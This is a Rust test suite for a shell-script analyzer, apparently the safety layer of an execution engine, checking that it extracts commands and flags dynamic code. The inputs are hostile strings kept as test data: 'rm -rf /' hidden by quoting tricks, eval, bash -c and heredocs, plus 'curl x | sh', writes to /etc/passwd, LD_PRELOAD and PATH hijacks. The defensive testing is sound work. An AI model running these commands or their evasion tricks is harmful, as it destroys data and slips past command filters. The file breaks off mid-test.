//! Tests of the shell analysis: one or more per construct, quoting tricks, the rules on
//! special commands, robustness against garbage, and agreement of the two parsers.

use super::*;

const PATH: &str = "/usr/local/bin:/usr/bin:/bin";

fn run(src: &str) -> Normalized {
    analyze(src, PATH, None)
}

fn slow(src: &str) -> Normalized {
    let mut a = Analyzer::new(false);
    a.script(src);
    a.finish(PATH, None)
}

fn argvs(n: &Normalized) -> Vec<Vec<&str>> {
    n.commands
        .iter()
        .map(|c| c.argv.iter().map(String::as_str).collect())
        .collect()
}

fn find<'a>(n: &'a Normalized, name: &str) -> &'a SimpleCommand {
    n.commands
        .iter()
        .find(|c| c.argv.first().is_some_and(|a| a == name))
        .unwrap_or_else(|| panic!("no `{name}` in {n:#?}"))
}

fn ctx(c: &SimpleCommand) -> Vec<&str> {
    c.context.iter().map(String::as_str).collect()
}

#[test]
fn typical_command_fast_path() {
    let n = run("git status && ls -la | grep foo > /tmp/out 2>&1");
    assert!(n.is_fully_analyzed(), "{:?}", n.unanalyzable);
    assert_eq!(
        argvs(&n),
        [
            vec!["git", "status"],
            vec!["ls", "-la"],
            vec!["grep", "foo"]
        ]
    );
    assert!(ctx(&n.commands[0]).is_empty());
    assert_eq!(ctx(&n.commands[1]), ["pipeline"]);
    let grep = &n.commands[2];
    assert_eq!(ctx(grep), ["pipeline"]);
    assert_eq!(
        grep.redirections,
        [
            Redirection {
                fd: None,
                op: ">".into(),
                target: "/tmp/out".into()
            },
            Redirection {
                fd: Some(2),
                op: ">&".into(),
                target: "1".into()
            },
        ]
    );
    assert!(n.commands.iter().all(|c| !c.dynamic));
    let ls = n.commands[1].program.as_deref().unwrap();
    assert!(ls.starts_with('/') && ls.ends_with("/ls"), "{ls}");
}

#[test]
fn quoting_tricks_are_removed() {
    for src in [
        r"r''m -rf /",
        r#""rm" -rf /"#,
        r"\rm -rf /",
        r#""r"m -rf /"#,
        r"$'\x72m' -rf /",
    ] {
        let n = run(src);
        assert!(n.is_fully_analyzed(), "{src}: {:?}", n.unanalyzable);
        assert_eq!(argvs(&n), [vec!["rm", "-rf", "/"]], "{src}");
        assert!(!n.commands[0].dynamic, "{src}");
        assert!(
            n.commands[0].program.as_deref().unwrap().ends_with("/rm"),
            "{src}"
        );
    }
}

#[test]
fn newline_and_semicolon_separated_commands() {
    let n = run("echo a\nrm -rf /tmp/x; ls & whoami");
    assert_eq!(
        argvs(&n),
        [
            vec!["echo", "a"],
            vec!["rm", "-rf", "/tmp/x"],
            vec!["ls"],
            vec!["whoami"]
        ]
    );
    assert_eq!(n.commands[0].program, None, "echo is a builtin");
}

#[test]
fn assignment_then_dynamic_name_is_unanalyzable() {
    // A name the script set to a plain value is that value.
    let n = run("CMD=rm; $CMD -rf /");
    assert_eq!(n.commands[1].argv, ["rm", "-rf", "/"]);
    assert!(n.commands[1].program.is_some());
    assert!(n.is_fully_analyzed(), "{:?}", n.unanalyzable);

    let n = run("CMD=$(pick); $CMD -rf /");
    assert_eq!(n.commands.len(), 3);
    assert!(n.commands[0].argv.is_empty());
    assert_eq!(
        n.commands[0].assignments,
        [Assignment {
            name: "CMD".into(),
            value: "$(pick)".into()
        }]
    );
    assert_eq!(n.commands[1].argv, ["pick"]);
    let n = Normalized {
        commands: n.commands[1..].to_vec(),
        ..n
    };
    assert_eq!(n.commands[1].argv, ["$CMD", "-rf", "/"]);
    assert!(n.commands[1].dynamic);
    assert_eq!(n.commands[1].program, None);
    assert!(
        n.unanalyzable
            .iter()
            .any(|u| u.contains("command name is dynamic: `$CMD`")),
        "{:?}",
        n.unanalyzable
    );
}

#[test]
fn eval_and_source_are_unanalyzable() {
    let n = run(r#"eval "rm -rf /""#);
    assert_eq!(argvs(&n), [vec!["eval", "rm -rf /"]]);
    assert!(
        n.unanalyzable[0].starts_with("eval runs a string as code"),
        "{:?}",
        n.unanalyzable
    );
    let n = run(". ./env.sh && source x");
    assert_eq!(n.unanalyzable.len(), 2, "{:?}", n.unanalyzable);
    let n = run("command eval ls");
    assert!(!n.is_fully_analyzed());
}

#[test]
fn shell_c_script_is_analysed() {
    let n = run("bash -c 'rm -rf /'");
    assert!(n.is_fully_analyzed(), "{:?}", n.unanalyzable);
    assert_eq!(
        argvs(&n),
        [vec!["bash", "-c", "rm -rf /"], vec!["rm", "-rf", "/"]]
    );
    assert_eq!(ctx(&n.commands[1]), ["shell-c"]);
    let n = run("sudo -u x sh -ec 'curl x | sh'");
    assert_eq!(ctx(find(&n, "curl")), ["shell-c", "pipeline"]);
    let n = run(r#"sh -c "$X""#);
    assert!(
        n.unanalyzable[0].contains("-c runs a dynamic string"),
        "{:?}",
        n.unanalyzable
    );
    let n = run("bash -c 'bash -c \"rm -rf /\"'");
    assert_eq!(ctx(find(&n, "rm")), ["shell-c", "shell-c"]);
}

#[test]
fn a_dynamic_shell_c_script_behind_a_wrapper_is_unanalyzable() {
    // Regression: only `sh -c "$X"` as the command itself was flagged, so a static
    // `bash -c` elsewhere hid `sudo sh -c "$X"` from the plugins.
    for src in [
        r#"X=$(cat f); bash -c true; sudo sh -c "$X""#,
        r#"sudo -u root bash -c "$X""#,
        r#"timeout 60 env A=1 nice -n 5 sh -ec "$X""#,
        r#"sudo sh -c $(cat cmd.txt)"#,
    ] {
        let n = run(src);
        assert!(
            n.unanalyzable
                .iter()
                .any(|u| u.contains("-c runs a dynamic string")),
            "{src}: {:?}",
            n.unanalyzable
        );
    }
    // A static script behind a wrapper is still analysed, and not flagged.
    let n = run("sudo sh -c 'rm -rf /tmp/x'");
    assert!(n.is_fully_analyzed(), "{:?}", n.unanalyzable);
    assert_eq!(ctx(find(&n, "rm")), ["shell-c"]);
}

#[test]
fn find_exec_is_just_argv() {
    let n = run(r"find . -exec rm {} \;");
    assert!(n.is_fully_analyzed(), "{:?}", n.unanalyzable);
    assert_eq!(argvs(&n), [vec!["find", ".", "-exec", "rm", "{}", ";"]]);
    assert!(!n.commands[0].dynamic);
}

#[test]
fn heredoc_unquoted_body_runs_substitutions() {
    let n = run("cat <<EOF > /tmp/f\nhello $(rm -rf /)\nEOF\n");
    assert_eq!(argvs(&n), [vec!["cat"], vec!["rm", "-rf", "/"]]);
    assert_eq!(
        ctx(&n.commands[1]),
        ["here-document", "command-substitution"]
    );
    assert_eq!(
        n.commands[0].redirections[0],
        Redirection {
            fd: None,
            op: "<<".into(),
            target: "EOF".into()
        }
    );
    assert_eq!(n.commands[0].redirections[1].target, "/tmp/f");
}

#[test]
fn heredoc_quoted_delimiter_body_is_data() {
    let n = run("cat <<'EOF'\n$(rm -rf /)\nEOF\n");
    assert_eq!(argvs(&n), [vec!["cat"]]);
    assert_eq!(n.commands[0].redirections[0].target, "EOF");
    let n = run("cat <<-\"EOF\"\n\t`rm x`\n\tEOF\n");
    assert_eq!(argvs(&n), [vec!["cat"]]);
    assert_eq!(n.commands[0].redirections[0].op, "<<-");
}

#[test]
fn leading_assignment_is_reported() {
    let n = run("a[$(id)]=1");
    assert!(n.commands[0].dynamic);
    assert_eq!(ctx(find(&n, "id")), ["arithmetic", "command-substitution"]);
    let n = run("x=$(rm -rf /)");
    assert_eq!(n.commands[0].assignments[0].value, "$(rm -rf /)");
    assert_eq!(ctx(find(&n, "rm")), ["command-substitution"]);
    let n = run("LD_PRELOAD=/x.so ls");
    assert_eq!(n.commands[0].argv, ["ls"]);
    assert_eq!(
        n.commands[0].assignments,
        [Assignment {
            name: "LD_PRELOAD".into(),
            value: "/x.so".into()
        }]
    );
    assert!(n.commands[0].program.is_some());
}

#[test]
fn redirections() {
    let n = run("echo x > /etc/passwd; ls 2>&1 &>/dev/null; cat <x >>y 3<>z <<<'hi' >|w");
    assert_eq!(
        n.commands[0].redirections,
        [Redirection {
            fd: None,
            op: ">".into(),
            target: "/etc/passwd".into()
        }]
    );
    assert_eq!(
        n.commands[1].redirections,
        [
            Redirection {
                fd: Some(2),
                op: ">&".into(),
                target: "1".into()
            },
            Redirection {
                fd: None,
                op: "&>".into(),
                target: "/dev/null".into()
            },
        ]
    );
    let ops: Vec<_> = n.commands[2]
        .redirections
        .iter()
        .map(|r| (r.fd, r.op.as_str(), r.target.as_str()))
        .collect();
    assert_eq!(
        ops,
        [
            (None, "<", "x"),
            (None, ">>", "y"),
            (Some(3), "<>", "z"),
            (None, "<<<", "hi"),
            (None, ">|", "w")
        ]
    );
    let n = run("> /etc/passwd");
    assert_eq!(n.commands[0].argv.len(), 0);
    assert_eq!(n.commands[0].redirections[0].target, "/etc/passwd");
}

#[test]
fn process_substitution() {
    let n = run("diff <(ls) <(rm x)");
    assert_eq!(argvs(&n)[1..], [vec!["ls"], vec!["rm", "x"]]);
    assert_eq!(ctx(find(&n, "rm")), ["process-substitution"]);
    assert!(find(&n, "diff").dynamic);
    let n = run("tee >(rm y) > >(sh)");
    assert_eq!(ctx(find(&n, "sh")), ["process-substitution"]);
    assert_eq!(ctx(find(&n, "rm")), ["process-substitution"]);
}

#[test]
fn function_body_and_call() {
    let n = run("f(){ rm -rf /; }; f");
    assert_eq!(argvs(&n), [vec!["rm", "-rf", "/"], vec!["f"]]);
    assert_eq!(ctx(&n.commands[0]), ["function", "brace-group"]);
    assert_eq!(n.commands[1].program, None, "f is a function");
    let n = run("ls() { echo hi; }\nls");
    assert_eq!(find(&n, "ls").program, None);
}

#[test]
fn command_substitution_in_double_quotes_and_backticks() {
    let n = run(r#"echo "today: $(date +%F)" `whoami`"#);
    assert_eq!(
        argvs(&n),
        [
            vec!["echo", r#""today: $(date +%F)""#, "`whoami`"],
            vec!["date", "+%F"],
            vec!["whoami"]
        ]
    );
    assert!(n.commands[0].dynamic);
    assert_eq!(ctx(&n.commands[1]), ["command-substitution"]);
    assert_eq!(ctx(&n.commands[2]), ["backticks"]);
    let n = run("echo ${X:-$(rm -rf /)} $((1 + $(id -u)))");
    assert_eq!(ctx(find(&n, "rm")), ["command-substitution"]);
    assert_eq!(ctx(find(&n, "id")), ["arithmetic", "command-substitution"]);
}

#[test]
fn subshell_brace_group_and_compound_commands() {
    let n = run("(cd /tmp && rm a) ; { ls; } > out");
    assert_eq!(ctx(find(&n, "rm")), ["subshell"]);
    assert_eq!(ctx(find(&n, "ls")), ["brace-group"]);
    let redir = n.commands.iter().find(|c| c.argv.is_empty()).unwrap();
    assert_eq!(redir.redirections[0].target, "out");
    let n = run("if test -f x; then rm x; elif true; then a; else b; fi");
    assert_eq!(ctx(find(&n, "test")), ["if"]);
    assert_eq!(ctx(find(&n, "b")), ["if"]);
    let n = run("while read l; do echo $l; done < f; until false; do c; done");
    assert_eq!(ctx(find(&n, "read")), ["while"]);
    assert_eq!(ctx(find(&n, "c")), ["until"]);
    let n = run("for f in $(ls); do rm $f; done");
    assert_eq!(ctx(find(&n, "ls")), ["for", "command-substitution"]);
    assert_eq!(ctx(find(&n, "rm")), ["for"]);
    let n = run("case $(uname) in Linux) apt update;; *) brew;; esac");
    assert_eq!(ctx(find(&n, "uname")), ["case", "command-substitution"]);
    assert_eq!(ctx(find(&n, "apt")), ["case"]);
    let n = run("(( x = $(wc -l < f) )); [[ -n $(id -u) ]]");
    assert_eq!(ctx(find(&n, "wc")), ["arithmetic", "command-substitution"]);
    assert_eq!(ctx(find(&n, "id")), ["command-substitution"]);
    let n = run("for ((i=0; i<$(nproc); i++)); do x; done");
    assert_eq!(
        ctx(find(&n, "nproc")),
        ["for", "arithmetic", "command-substitution"]
    );
}

#[test]
fn dynamic_words_stay_as_written() {
    let n = run("rm -rf \"$HOME\"/x *.txt ~/y");
    let c = &n.commands[0];
    assert!(c.dynamic);
    assert_eq!(c.argv, ["rm", "-rf", "\"$HOME\"/x", "*.txt", "~/y"]);
    assert!(c.program.is_some());
    assert!(n.is_fully_analyzed());
    let n = run("{rm,-rf,/}");
    assert!(
        n.unanalyzable[0].contains("dynamic"),
        "{:?}",
        n.unanalyzable
    );
}

#[test]
fn exec_trap_alias_rules() {
    assert!(run("exec rm -rf /").is_fully_analyzed());
    assert!(
        run("exec $X")
            .unanalyzable
            .iter()
            .any(|u| u.contains("exec"))
    );
    // A trap's static string is analysed as a script; a dynamic one cannot be.
    let n = run("trap 'rm -rf /' EXIT");
    assert!(n.is_fully_analyzed(), "{:?}", n.unanalyzable);
    assert_eq!(find(&n, "rm").argv, ["rm", "-rf", "/"]);
    assert_eq!(
        run("trap \"$X\" EXIT").unanalyzable,
        ["trap runs a dynamic string as code: `trap '\"$X\"' EXIT`"]
    );
    assert!(run("trap - INT").is_fully_analyzed());
    assert!(!run("alias ls='rm -rf /'\nls").is_fully_analyzed());
}

#[test]
fn path_changes_drop_predicted_programs() {
    let n = run("PATH=/tmp/evil:$PATH; ls");
    assert_eq!(find(&n, "ls").program, None);
    let n = run("PATH=/nonexistent ls");
    assert_eq!(n.commands[0].program, None);
    let n = run("export PATH=/x; ls");
    assert_eq!(find(&n, "ls").program, None);
    assert!(run("ls").commands[0].program.is_some());
}

#[test]
fn parse_error_is_unanalyzable_with_best_effort_commands() {
    let n = run("ls\nif then fi (\nwhoami");
    assert!(
        n.unanalyzable.iter().any(|u| u.starts_with("parse error")),
        "{:?}",
        n.unanalyzable
    );
    assert!(n.commands.iter().any(|c| c.argv == ["whoami"]));
    let n = run("echo 'unterminated");
    assert!(!n.is_fully_analyzed());
}

#[test]
fn empty_and_blank_scripts() {
    for s in ["", "   ", "\n\n", "# just a comment"] {
        let n = run(s);
        assert!(n.commands.is_empty(), "{s:?}");
        assert!(n.is_fully_analyzed(), "{s:?}");
    }
}

#[test]
fn deep_nesting_is_bounded() {
    let deep = format!("{}x{}", "$(echo ".repeat(100), ")".repeat(100));
    let n = run(&deep);
    assert!(
        n.unanalyzable
            .iter()
            .any(|u| u.contains("nesting too deep")),
        "{:?}",
        n.unanalyzable
    );
    let n = run(&"(".repeat(3_000_000));
    assert!(!n.is_fully_analyzed());
    let n = run(&format!("{}:{}", "{ ".repeat(40), "; }".repeat(40)));
    assert_eq!(n.commands.len(), 1, "{:?}", n.unanalyzable);
    // Balanced overall, unbalanced per line: the per-line retry must not backtrack.
    let src = format!("{}\n{}\nfi", "(".repeat(20), ")".repeat(20));
    let t = std::time::Instant::now();
    assert!(!run(&src).is_fully_analyzed());
    assert!(t.elapsed() < std::time::Duration::from_secs(1));
    let n = run("bash -c '");
    assert!(!n.is_fully_analyzed());
    // Just under the limits, every kind of nesting: no stack overflow, bounded time.
    for (open, close) in [
        ("echo $(", ")"),
        ("echo \"$(", ")\""),
        ("echo ${x:-", "}"),
        ("echo $((1+", "))"),
        ("(", ")"),
        ("{ ", ";}"),
        ("if true; then ", "; fi"),
        ("f() { ", "; }"),
        ("echo <(", ")"),
        ("echo `", "`"),
    ] {
        for depth in [8, 30, 60] {
            let src = format!("{}ls{}", open.repeat(depth), close.repeat(depth));
            let t = std::time::Instant::now();
            let _ = run(&src);
            assert!(
                t.elapsed() < std::time::Duration::from_secs(5),
                "slow: {src}"
            );
        }
    }
}

/// Garbage must never panic (nor hang): a tiny LCG builds inputs from shell-ish pieces.
#[test]
fn garbage_never_panics() {
    const PIECES: &[&str] = &[
        "(",
        ")",
        "{",
        "}",
        "$(",
        "`",
        "'",
        "\"",
        "\\",
        "$",
        "<<",
        "EOF",
        "\n",
        ";",
        "&&",
        "|",
        "||",
        "&",
        ">",
        "<",
        "2>&1",
        "<(",
        ">(",
        "if",
        "then",
        "fi",
        "for",
        "do",
        "done",
        "case",
        "esac",
        "in",
        ";;",
        "x",
        "rm",
        " ",
        "-rf",
        "=",
        "${",
        "[[",
        "]]",
        "((",
        "))",
        "~",
        "*",
        "$'",
        "\\x",
        "\0",
        "é",
        "#",
        "!",
        "eval",
        "bash -c ",
        "9999999999999>",
        "~+",
        "[",
        "]",
    ];
    let mut state: u64 = 0x2545_f491_4f6c_dd1d;
    let mut next = || {
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) as usize
    };
    for _ in 0..3000 {
        let len = next() % 40;
        let mut s = String::new();
        for _ in 0..len {
            if next() % 8 == 0 {
                s.push(char::from_u32((next() % 0x250) as u32).unwrap_or('x'));
            } else {
                s.push_str(PIECES[next() % PIECES.len()]);
            }
        }
        let t = std::time::Instant::now();
        let _ = run(&s);
        assert!(
            t.elapsed() < std::time::Duration::from_secs(2),
            "slow on {s:?}"
        );
    }
}

/// Where the fast path accepts a script, the brush path must give the same answer.
#[test]
fn fast_path_agrees_with_parser() {
    let corpus = [
        "git status && ls -la | grep foo > /tmp/out 2>&1",
        "ls",
        "a b c; d e & f\ng",
        "echo 'a b' \"c d\" e''f",
        "x 2>/dev/null 1>&2 <inp >>out &>all &>>all2 3<>rw >|clob <&0 >&-",
        "a || b && c | d | e",
        "kubectl get pods -n kube-system -o wide",
        "echo a=b c=d",
        "cat f | sort | uniq -c | sort -rn | head -5",
        "bash -c 'rm -rf /'",
        "eval ls",
        "echo 'it''s' \"quote'd\"",
        "\n\nls\n\n",
        "echo 'é ü' \"ö\"",
    ];
    for src in corpus {
        let mut a = Analyzer::new(true);
        assert!(
            fast::try_fast(&mut a, src),
            "fast path should accept {src:?}"
        );
        assert_eq!(run(src), slow(src), "{src:?}");
    }
    for src in [
        "echo $x",
        "a=b c",
        "if x; then y; fi",
        "ls *.rs",
        "a <<EOF\nx\nEOF",
        "echo ~",
        "(ls)",
        "# c",
        "a;;",
    ] {
        let mut a = Analyzer::new(true);
        assert!(
            !fast::try_fast(&mut a, src),
            "fast path should refuse {src:?}"
        );
    }
}

/// Random scripts from the fast subset's alphabet: wherever the fast path accepts one,
/// brush-parser must give the same commands.
#[test]
fn fast_path_agrees_with_parser_on_random_scripts() {
    const PIECES: &[&str] = &[
        "ls", "a", "-x", "'q x'", "\"d q\"", "2", "a=b", "x''y", "|", "&&", "||", ";", "&", "\n",
        ">", "2>&1", ">>", "<", "&>", "&>>", "<&", ">&", ">|", "<>", "1>", "3<", "/tmp/f", "--a=b",
        "''", "\"\"", "-", "0", "in", "echo", "bash -c", "eval",
    ];
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = || {
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) as usize
    };
    let mut accepted = 0;
    for _ in 0..4000 {
        let len = 1 + next() % 12;
        let mut s = String::new();
        for _ in 0..len {
            s.push_str(PIECES[next() % PIECES.len()]);
            if next() % 3 != 0 {
                s.push(' ');
            }
        }
        let mut a = Analyzer::new(true);
        if fast::try_fast(&mut a, &s) {
            accepted += 1;
            assert_eq!(run(&s), slow(&s), "{s:?}");
        }
    }
    assert!(accepted > 200, "only {accepted} accepted");
}

/// Found by the `normalize_shell` fuzz target: brush-parser 0.4 looped for ever (and ate
/// gigabytes) on a here-document with an empty delimiter at the end of the input, in the
/// script itself, in a `sh -c` script and in the per-line retry after a parse error.
#[test]
fn empty_heredoc_delimiter_does_not_hang() {
    for src in [
        "h<<\r in *.lmp \"$f\"; doex xd \nq(",
        "cat <<'' ",
        "cat <<\"\" \\\n",
        "bash -c \"cat <<'' \"",
        "echo ok\nif\ncat <<'' \nfoo",
        "\"$(w<<  H \" $((2)",
        "echo $(wh<<-\t\tHO $(why:-/}\" $((2+2)",
    ] {
        let t = std::time::Instant::now();
        let n = run(src);
        assert!(t.elapsed() < std::time::Duration::from_secs(2), "{src:?}");
        assert!(
            n.unanalyzable.iter().any(|u| u.contains("here-document")),
            "{src:?}: {n:?}"
        );
    }
}

/// Found by the normalize_shell fuzz target: a long redirection number after a `'` that
/// sits inside double quotes (literal there) made brush-parser 0.4 panic on an i32 parse.
#[test]
fn a_huge_fd_number_after_quotes_is_flagged_not_a_panic() {
    let src = "ech\"$Vr ''' v;1  true((0+*)$)\"0${/Qa,b}\n\n02222222222222222222221>(ru\n";
    let n = run(src);
    assert!(
        n.unanalyzable.iter().any(|u| u.contains("file descriptor")),
        "{:?}",
        n.unanalyzable
    );
    let n = run("echo '12345678901>' ok");
    assert!(
        !n.is_fully_analyzed(),
        "quoted or not, flagged (fail-closed)"
    );
}

/// Found by the normalize_request fuzz target: a here-document delimiter holding an
/// unterminated `$[` made brush-parser 0.4 loop, allocating gigabytes.
#[test]
fn a_heredoc_delimiter_with_an_expansion_is_flagged_not_parsed() {
    for src in ["<<x$[ <#", "cat <<x$$[\u{c}<#<", "cat <<x${y", "cat <<`x`"] {
        let n = run(src);
        assert!(
            n.unanalyzable
                .iter()
                .any(|u| u.contains("here-document delimiter")),
            "{src:?}: {:?}",
            n.unanalyzable
        );
    }
    // Ordinary here-documents and here-strings are still analysed.
    let n = run("cat <<'EOF'\nhello\nEOF\ncat <<< \"$x\"");
    assert!(
        !n.unanalyzable
            .iter()
            .any(|u| u.contains("here-document delimiter")),
        "{:?}",
        n.unanalyzable
    );
}

/// Found by the normalize_shell fuzz target on the final build: brush-parser 0.4's
/// tokenizer unwraps a missing character inside an unterminated `${` here. The panic is
/// caught and the script reported unanalysable (fail-closed), never the caller's crash.
#[test]
fn a_panic_inside_the_parser_is_unanalysable_not_a_crash() {
    let src = "inat r coe''m \"r\"P+m%<<-\\e(>>>\u{0}\u{0}| gok || x| xite \u{0};echo $(+hoem) \"$' r''m \"r\" $((0+*)$)\"0${Qab,!!!!!!!!!!!!!!!!!!!!!!!!!!!!e\u{a}\u{1a}\u{a}\u{a}e";
    let n = run(src);
    assert!(!n.is_fully_analyzed(), "{:?}", n.unanalyzable);
}

/// Found by the normalize_shell fuzz target on the final build: ~30 unclosed `[` made
/// brush-parser 0.4 backtrack for minutes. Flagged before parsing; ordinary globs and
/// tests still parse.
#[test]
fn many_unclosed_brackets_are_flagged_not_parsed() {
    let n = run(
        "f[$$$$f[f[$$$$f[f[$\u{5}UUUUUUU$f[$$$$f[ff[$$$$f[f[$$$$f[f[$\u{5}UUUUUUU$f[$$$$f[f[$$$$f[f[$$$4''$$_''m[$$$$f[f[$$$$''$$_f[$$$$f[f[$\u{5}UUUUUUU$f[$$$$f[ff[$$$$f[f[$$$$f[f[$\u{5}UUUUUUU$f[$$$$f[f[$$$$f[f[$$$4''$$_''m[$$$$f[f[$$$$''$''m",
    );
    assert!(
        n.unanalyzable.iter().any(|u| u.contains("unclosed `[`")),
        "{:?}",
        n.unanalyzable
    );
    // Four unclosed `[` inside `${…}` took brush-parser 8 s (normalize_shell fuzz target).
    let n = run(
        "eshoa \"\n${IK[E}ls$ (JK[E}ls$ (w${H),$!...3.s$o ok\"\\\"\"it\u{0}\u{0}\u{0}\u{0}f()\nt \"\n${HK[E\u{d}xco $1sho}\")$(ho $(sa \"\n${HK[E\u{d}xco $1sho}\")$((2+2)) ~/(2+2)) ~/x a,b}\n\u{0}\u{0}\u{0}\u{0}f()\n)' t'p_>!\"=\"\"\\\"\"it\u{0})w!($, \"$",
    );
    assert!(
        n.unanalyzable.iter().any(|u| u.contains("unclosed `[`")),
        "{:?}",
        n.unanalyzable
    );
    let n = run("ls [a-z]*.txt && [ -f x ] && [[ -d y ]] && echo $[1+2] ${a[0]} \"[x\"");
    assert!(n.is_fully_analyzed(), "{:?}", n.unanalyzable);
}

/// Found by the normalize_shell fuzz target on the final build: a here-document whose
/// delimiter is form feeds, inside `${…}` in double quotes, ran brush-parser out of memory.
#[test]
fn a_heredoc_padded_with_form_feeds_is_flagged_not_parsed() {
    let n = run(
        "ecy\u{a}.. \"${HOME:-/o %e$'FFFF\u{7}F\\q t\u{1b}N\u{0}\u{0}\u{0};'$m \\rm;c<<\u{c}\u{c}\u{c}\u{c}\u{c}}\" ",
    );
    assert!(
        n.unanalyzable
            .iter()
            .any(|u| u.contains("here-document delimiter")),
        "{:?}",
        n.unanalyzable
    );
}

/// A script the parser chews on for longer than the deadline is cut off and reported
/// unanalysable, and the analyser keeps serving (another thread takes the next script).
/// A job that sleeps stands in for brush-parser backtracking: the inputs that do so are
/// stopped by the cheap checks before they get here.
#[test]
fn an_analysis_that_overruns_is_cut_off_at_the_deadline() {
    use std::time::{Duration, Instant};
    let t = Instant::now();
    let n = super::deadline::bounded(|| {
        std::thread::sleep(Duration::from_secs(3));
        crate::Normalized::default()
    });
    let took = t.elapsed();
    assert!(
        n.unanalyzable
            .iter()
            .any(|u| u.contains("took longer than")),
        "{n:?}"
    );
    assert!(took < Duration::from_secs(2), "took {took:?}");
    // The stuck thread does not hold up the next script.
    let n = crate::normalize_shell(
        "echo $(date) && for f in *.txt; do wc -l \"$f\"; done",
        "/usr/bin:/bin",
        None,
    );
    assert!(n.is_fully_analyzed(), "{:?}", n.unanalyzable);
    assert_eq!(n.commands.len(), 3, "{:?}", n.commands);
}

/// A temporary directory with a virtualenv-like `activate`, a script and a big file.
fn script_dir() -> tempfile::TempDir {
    let t = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(t.path().join(".venv/bin")).unwrap();
    std::fs::write(
        t.path().join(".venv/bin/activate"),
        "deactivate () {\n  unset VIRTUAL_ENV\n}\nVIRTUAL_ENV=/x/.venv\nexport VIRTUAL_ENV\nPATH=\"$VIRTUAL_ENV/bin:$PATH\"\nexport PATH\n",
    )
    .unwrap();
    std::fs::write(t.path().join("x.sh"), "echo hi\nrm -rf /\n").unwrap();
    let big = "true\n".repeat(MAX_SCRIPT_FILE_BYTES as usize / 5 + 1);
    std::fs::write(t.path().join("big.sh"), big).unwrap();
    t
}

#[test]
fn sourced_files_and_script_files_are_analysed() {
    let t = script_dir();
    let n = analyze(
        "source .venv/bin/activate && pytest -q",
        PATH,
        Some(t.path()),
    );
    assert!(n.is_fully_analyzed(), "{:?}", n.unanalyzable);
    assert_eq!(
        ctx(find(&n, "unset")),
        ["source", "function", "brace-group"]
    );
    // The sourced file changed PATH: pytest is no longer predicted.
    assert_eq!(find(&n, "pytest").program, None);
    let n = analyze(". ./.venv/bin/activate", PATH, Some(t.path()));
    assert!(n.is_fully_analyzed(), "{:?}", n.unanalyzable);

    // `bash FILE`, also after a `cd`; the file's commands are reported.
    for script in ["bash x.sh", "sh ./x.sh arg", "cd / && bash DIR/x.sh"] {
        let script = script.replace("DIR", t.path().to_str().unwrap());
        let n = analyze(&script, PATH, Some(t.path()));
        assert!(n.is_fully_analyzed(), "{script}: {:?}", n.unanalyzable);
        assert_eq!(find(&n, "rm").argv, ["rm", "-rf", "/"], "{script}");
        assert_eq!(ctx(find(&n, "rm")), ["script-file"], "{script}");
    }
    // A sourced file that cannot be read, and a script the request writes itself, are
    // unanalysable, with the reason.
    for (script, why) in [
        ("source missing.sh", "no such file"),
        ("source \"$F\"", "only known at run time"),
        (
            "cd \"$D\" && source x.sh",
            "directory it is in is not known",
        ),
        (
            "echo 'rm -rf /' > x.sh && bash x.sh",
            "the request itself writes",
        ),
        (
            "printf 'x' | tee ./y.sh; sh y.sh",
            "the request itself writes",
        ),
        ("echo x > a.sh; . ./a.sh", "the request itself writes"),
    ] {
        let n = analyze(script, PATH, Some(t.path()));
        assert!(
            n.unanalyzable.iter().any(|u| u.contains(why)),
            "{script}: {:?}",
            n.unanalyzable
        );
    }
    // A script file that cannot be read runs like `./script.sh`: nothing to analyse.
    for script in ["bash missing.sh", "bash big.sh", "cd \"$D\" && bash x.sh"] {
        let n = analyze(script, PATH, Some(t.path()));
        assert!(n.is_fully_analyzed(), "{script}: {:?}", n.unanalyzable);
    }
    // A file that sources itself ends at the bound.
    std::fs::write(t.path().join("loop.sh"), ". ./loop.sh\n").unwrap();
    let n = analyze(". ./loop.sh", PATH, Some(t.path()));
    assert!(!n.is_fully_analyzed());
    // A word that only mentions a shell is not a script to read.
    let n = analyze("grep bash x.sh", PATH, Some(t.path()));
    assert!(n.is_fully_analyzed(), "{:?}", n.unanalyzable);
    assert_eq!(n.commands.len(), 1);
}

#[test]
fn scripts_on_a_shells_standard_input_are_analysed() {
    for script in [
        "bash <<< 'rm -rf /'",
        "bash /dev/stdin <<< 'rm -rf /'",
        "sh -s <<'EOF'\nrm -rf /\nEOF",
        "bash - <<EOF\nrm -rf /\nEOF",
    ] {
        let n = run(script);
        let rm = find(&n, "rm");
        assert_eq!(rm.argv, ["rm", "-rf", "/"], "{script}");
        assert_eq!(ctx(rm), ["shell-stdin"], "{script}");
    }
    // `sh -n` runs nothing.
    let n = run("bash -n <<< 'rm -rf /'");
    assert!(n.commands.iter().all(|c| c.argv[0] != "rm"), "{n:?}");
    // A here-document with expansions is not a static script.
    let n = run("bash <<EOF\nrm -rf $X\nEOF");
    assert!(
        n.commands
            .iter()
            .all(|c| c.argv.first().is_none_or(|a| a != "rm"))
    );
}

#[test]
fn commands_carry_the_directory_the_script_left() {
    let n = run("cd /tmp && ls; (cd /; ls); pushd ~/src; ls; popd; cd \"$X\"; ls");
    let dirs: Vec<(&str, &WorkingDir)> = n
        .commands
        .iter()
        .map(|c| (c.argv[0].as_str(), &c.working_dir))
        .collect();
    let changed = |v: &[&str]| WorkingDir::Changed(v.iter().map(|s| s.to_string()).collect());
    assert_eq!(dirs[0], ("cd", &WorkingDir::Request));
    assert_eq!(dirs[1], ("ls", &changed(&["/tmp"])));
    assert_eq!(dirs[3], ("ls", &changed(&["/"])));
    assert_eq!(dirs[4], ("pushd", &changed(&["/tmp"])));
    assert_eq!(dirs[5], ("ls", &changed(&["~/src"])));
    assert_eq!(dirs[7], ("cd", &changed(&["/tmp"])));
    assert!(matches!(dirs[8], ("ls", WorkingDir::Unknown(why)) if why.contains("$X")));
}

#[test]
fn script_requests_run_by_a_shell_report_the_scripts_commands() {
    let t = script_dir();
    std::fs::write(t.path().join("s.sh"), "#!/bin/sh\ncd /\nrm -rf *\n").unwrap();
    let request = |interpreter: Option<&str>| cloudops_execution_engine::ExecutionRequest {
        id: uuid::Uuid::new_v4(),
        command: cloudops_execution_engine::Command::Script {
            path: t.path().join("s.sh"),
